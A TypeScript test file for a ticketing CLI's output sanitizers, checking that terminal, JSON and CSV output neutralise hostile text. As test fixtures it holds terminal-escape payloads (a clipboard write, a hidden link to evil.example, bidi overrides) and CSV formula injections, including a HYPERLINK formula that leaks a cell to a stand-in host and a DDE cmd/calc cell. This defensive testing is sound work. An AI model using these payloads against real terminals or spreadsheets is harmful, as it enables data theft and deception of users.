import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from '../../../src/cli/output/csv.js';
import { forTerminal, genericListWriter, jsonText, messageText, multiLine, oneLine, printObject, renderTicketDetail, spreadsheetText, ticketListWriter } from '../../../src/cli/output/index.js';
import { comment, escalation, event, memoryOut, piped, ticket, tty } from './fixtures.js';

/** What a hostile text carries: clipboard write, hidden link, hidden text, C1 CSI, bidi override and isolate, line separator. */
const OSC52 = '\u001b]52;c;ZWNobyBwd25lZA==\u0007';
const OSC8 = '\u001b]8;;http://evil.example/\u001b\\click me\u001b]8;;\u001b\\';
const HIDDEN = '\u001b[8msecret\u001b[0m';
const C1 = '\u009b31m\u0085\u009d';
const BIDI = 'abc\u202eexe.txt\u2066x\u2069\u202a\u202b\u202c\u202d\u2067\u2068';
/** Strings where the characters that matter are frequent, mixed with any other code point. */
const anyText = fc.string({
  unit: fc.oneof(
    fc.constantFrom('\u001b', '\u0007', '\u009b', '\u0085', '\u202e', '\u2066', '\u2069', '\u2028', '\u2029', '\u061c', '\u200f', '\u007f', '\u0000', '\t', '\n', '\r', '"', '\\', '='),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  ),
});
const SEPARATORS = 'one\u2028two\u2029three';
const HOSTILE = `${OSC52}${OSC8}${HIDDEN}${C1}${BIDI}${SEPARATORS}\u0000\u007f\u061c\u200e\u200f`;

/** Every character the sanitizer must never let through; \t and \n are checked apart, where a value must stay on one line. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const RAW_OR_BREAK = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('oneLine and multiLine', () => {
  it('show every control, bidi and separator character as a visible \\u{…} marker', () => {
    expect(oneLine('a\u001b[8mb')).toBe('a\\u{1b}[8mb');
    expect(oneLine('x\u202ey\u2066z')).toBe('x\\u{202e}y\\u{2066}z');
    expect(oneLine('p\u2028q\u0085r\u009bs')).toBe('p\\u{2028}q\\u{85}r\\u{9b}s');
    expect(oneLine(HOSTILE)).not.toMatch(RAW_OR_BREAK);
    expect(multiLine(HOSTILE)).not.toMatch(RAW);
  });

  it('oneLine turns tabs and line breaks into spaces; multiLine keeps line breaks as LF', () => {
    expect(oneLine('a\tb\nc\r\nd')).toBe('a b c  d');
    expect(multiLine('a\r\nb\rc\nd\te')).toBe('a\nb\nc\nd e');
  });

  it('leave ordinary text, accents and other scripts alone', () => {
    const text = 'Résumé — отчёт 報告 🙂 «quoted» שלום';
    expect(oneLine(text)).toBe(text);
    expect(multiLine(text)).toBe(text);
  });

  it('never let an unsafe character through, whatever the text', () => {
    fc.assert(
      fc.property(anyText, (s) => {
        expect(oneLine(s)).not.toMatch(RAW_OR_BREAK);
        expect(multiLine(s)).not.toMatch(RAW);
      }),
    );
  });
});

describe('forTerminal', () => {
  it('cleans every string of a nested record and keeps numbers, booleans and nulls', () => {
    const cleaned = forTerminal({ id: 3, ok: true, none: null, tags: [HIDDEN], nested: { note: `x${OSC52}` } });
    expect(cleaned).toMatchObject({ id: 3, ok: true, none: null });
    expect(JSON.stringify(cleaned)).not.toMatch(/\\u001b|\\u0007/);
    expect(cleaned.tags[0]).toBe('\\u{1b}[8msecret\\u{1b}[0m');
  });
});

describe('jsonText', () => {
  it('escapes C1 controls, bidi characters and U+2028/9 as \\u sequences, and parses back to the same strings', () => {
    const value = { subject: HOSTILE, tags: [BIDI, C1] };
    const text = jsonText(value, 2);
    expect(text).not.toMatch(RAW);
    expect(text).toContain('\\u202e');
    expect(text).toContain('\\u0085');
    expect(JSON.parse(text)).toEqual(value);
  });

  it('keeps the layout of indented JSON', () => {
    expect(jsonText({ a: 1, b: ['x'] }, 2)).toBe(JSON.stringify({ a: 1, b: ['x'] }, null, 2));
  });

  it('parses back to the same value for any string, with no raw unsafe character', () => {
    fc.assert(
      fc.property(anyText, anyText, (key, s) => {
        const text = jsonText({ [key]: s, list: [s] });
        expect(text).not.toMatch(RAW_OR_BREAK);
        expect(JSON.parse(text)).toEqual({ [key]: s, list: [s] });
      }),
    );
  });
});

describe('CSV cells', () => {
  it.each(['=1+1', '+1', '-1+2', '@SUM(1)', '\t=1', '\r=1'])('puts a single quote before a formula-leading cell: %j', (cell) => {
    expect(spreadsheetText(cell).startsWith("'")).toBe(true);
  });

  it('neutralises the cells from the report', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?leak="&B2,"x")')).toBe('"\'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")"');
    expect(csvField("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
  });

  it('neutralises a formula hidden in a list of tags', () => {
    expect(csvField(['billing', '=cmd()'])).toBe("billing;'=cmd()");
  });

  it('leaves ordinary cells as they are, line breaks and tabs inside included', () => {
    expect(csvLine(['Printer on fire', 12, 'a\r\nb', 'x\ty', 'e-mail'])).toBe('Printer on fire,12,"a\r\nb",x\ty,e-mail\n');
  });

  it('shows control and bidi characters as markers, a lone CR included', () => {
    const cell = csvField(HOSTILE + 'a\rb');
    expect(cell).not.toMatch(RAW);
    expect(cell).toContain('\\u{1b}]52;c;');
    expect(cell).toContain('a\\u{d}b');
  });
});

describe('messageText', () => {
  it('keeps an error message on one line, without controls or anything token-shaped', () => {
    const text = messageText(`invalid ticket id "tix_AbCdEfGhIjKlMnOpQrStUvWx-_12"; detail\n${HIDDEN}`);
    expect(text).toBe('invalid ticket id "tix_[redacted]"; detail \\u{1b}[8msecret\\u{1b}[0m');
  });
});

describe('human views of hostile records', () => {
  it('tix show: nothing of a hostile ticket, comment or event reaches the terminal raw', () => {
    const t = ticket({ subject: OSC52, description: `${OSC8}\n${BIDI}`, requester: HIDDEN, status: `new${C1}` as never, tags: [SEPARATORS] });
    const extras = {
      comments: [comment({ author: BIDI, body: `${HOSTILE}\nsecond line` })],
      events: [event({ actor: OSC8, note: HIDDEN, from: C1, to: BIDI })],
      escalation: escalation({ reason: OSC52, estimated_resolution: HIDDEN }),
    };
    // without colour, so that any ESC in the output is one the sanitizer let through
    for (const opts of [piped(), tty({ color: false })]) {
      const text = renderTicketDetail({ ...t, escalation: 'CP-4' }, extras, opts);
      expect(text).not.toMatch(RAW);
      expect(text).toContain('second line');
    }
  });

  const hostileEscalation = escalation({
    reason: `${OSC52}reason`,
    created_by: HIDDEN,
    timeline: [{ state: 'engineering_in_progress', at: '2025-03-10T11:00:00Z', by: OSC8, note: `${BIDI}\n${SEPARATORS}` }] as never,
  });

  it('escalation show: reason, timeline notes and `by` are cleaned, each on its own line', () => {
    const out = memoryOut();
    const human = (e: typeof hostileEscalation) => `${e.reason}\n${e.timeline.map((s) => `${s.by} ${oneLine(s.note ?? '')}`).join('\n')}`;
    printObject(out, hostileEscalation, tty({ color: false }), human);
    expect(out.text).not.toMatch(RAW);
    expect(out.text.trimEnd().split('\n')).toHaveLength(2);
  });

  it('escalation list and ticket list: table, tab-separated, CSV, JSON and NDJSON carry no raw unsafe character', () => {
    for (const format of ['table', 'csv', 'json', 'ndjson'] as const) {
      for (const opts of [tty({ format, color: false }), piped({ format })]) {
        const out = memoryOut();
        const writer = genericListWriter<typeof hostileEscalation>(out, opts, [
          { header: 'ID', get: (e) => e.id },
          { header: 'REASON', get: (e) => e.reason },
        ]);
        writer.write(hostileEscalation);
        writer.end();
        const tickets = memoryOut();
        const list = ticketListWriter(tickets, opts);
        list.write(ticket({ subject: HOSTILE, assignee: BIDI, team: OSC8 as never }));
        list.end();
        for (const text of [out.text, tickets.text]) expect(text).not.toMatch(RAW);
      }
    }
  });
});
